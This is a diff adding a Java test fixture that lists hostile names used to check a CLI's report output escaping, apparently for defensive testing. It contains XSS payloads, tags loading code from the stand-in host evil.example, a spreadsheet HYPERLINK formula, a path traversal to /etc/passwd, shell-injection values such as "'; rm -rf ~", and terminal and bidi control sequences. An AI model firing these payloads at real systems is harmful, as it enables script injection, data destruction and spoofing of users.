@@ -1,0 +1,101 @@
+// SPDX-License-Identifier: Apache-2.0
+package org.relent.cli.behaviour;
+
+import java.util.List;
+
+/** Names that try to become markup, script, a formula, or an order to the terminal. */
+final class Attacks {
+
+  static final List<String> ALL =
+      List.of(
+          "</script><script>alert(1)</script>",
+          "<script>alert(1)</script>",
+          "<ScRiPt>alert(1)</sCrIpT>",
+          "</SCRIPT/x>",
+          "<script src=//evil.example/x.js></script>",
+          "\"><img src=x onerror=alert(1)>",
+          "'><img src=x onerror=alert(1)>",
+          "<img src=x onerror=alert(1)//",
+          "<svg onload=alert(1)>",
+          "<svg><script>alert(1)</script></svg>",
+          "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+          "<body onload=alert(1)>",
+          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+          "<object data=data:text/html,<script>alert(1)</script>>",
+          "<embed src=javascript:alert(1)>",
+          "<link rel=stylesheet href=//evil.example/x.css>",
+          "<meta http-equiv=refresh content='0;url=//evil.example'>",
+          "<base href=//evil.example/>",
+          "<form action=//evil.example><input type=submit>",
+          "<a href=javascript:alert(1)>click</a>",
+          "<details open ontoggle=alert(1)>",
+          "<input autofocus onfocus=alert(1)>",
+          "<video><source onerror=alert(1)>",
+          "<marquee onstart=alert(1)>",
+          "<template><script>alert(1)</script></template>",
+          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+          "</title><script>alert(1)</script>",
+          "</style><script>alert(1)</script>",
+          "</table></details></article><h1>Another report</h1>",
+          "</textarea><script>alert(1)</script>",
+          "<!--",
+          "-->",
+          "--!><script>alert(1)</script>",
+          "<![CDATA[<script>alert(1)</script>]]>",
+          "]]>",
+          "<?xml version=\"1.0\"?>",
+          "\" onmouseover=\"alert(1)",
+          "' onmouseover='alert(1)",
+          "` onmouseover=`alert(1)",
+          "x onmouseover=alert(1)",
+          "\" style=\"background:url(//evil.example)",
+          "javascript:alert(1)",
+          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+          "url(javascript:alert(1))",
+          "@import '//evil.example/x.css';",
+          "{{7*7}}",
+          "${7*7}",
+          "#{7*7}",
+          "<%= 7*7 %>",
+          "$unsafe{alert(1)}",
+          "@if(true)",
+          "{marker0|x}",
+          "{b}: {c} ({d}%)",
+          "%s%n%d",
+          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+          "&lt;script&gt;alert(1)&lt;/script&gt;",
+          "&#60;script&#62;",
+          "\\u003cscript\\u003ealert(1)",
+          "\\\"});alert(1);//",
+          "'+alert(1)+'",
+          "undefined",
+          "__proto__",
+          "constructor",
+          "hasOwnProperty",
+          "toString",
+          "tab\there",
+          "line\nbreak",
+          "\u001b[31mred\u001b[0m",
+          "\u001b]0;title\u0007",
+          "\u009b31mred",
+          "bell\u0007 and back\b",
+          "\u202Egnp.exe\u202C",
+          "\u2066isolate\u2069",
+          "zero\u200Bwidth\u200Djoin",
+          "soft\u00ADhyphen",
+          "tag \uDB40\uDC41 letter",
+          "\uD83D\uDCA9 pile",
+          "=HYPERLINK(\"//evil.example\")",
+          "../../../../etc/passwd",
+          "'; rm -rf ~; echo '",
+          "$(touch gone)",
+          "<".repeat(90),
+          "very<b>long</b>&amp;".repeat(20));
+
+  private Attacks() {}
+
+  /** A cell of CSV that holds a text, whatever it is. */
+  static String cell(String text) {
+    return "\"" + text.replace("\"", "\"\"") + "\"";
+  }
+}
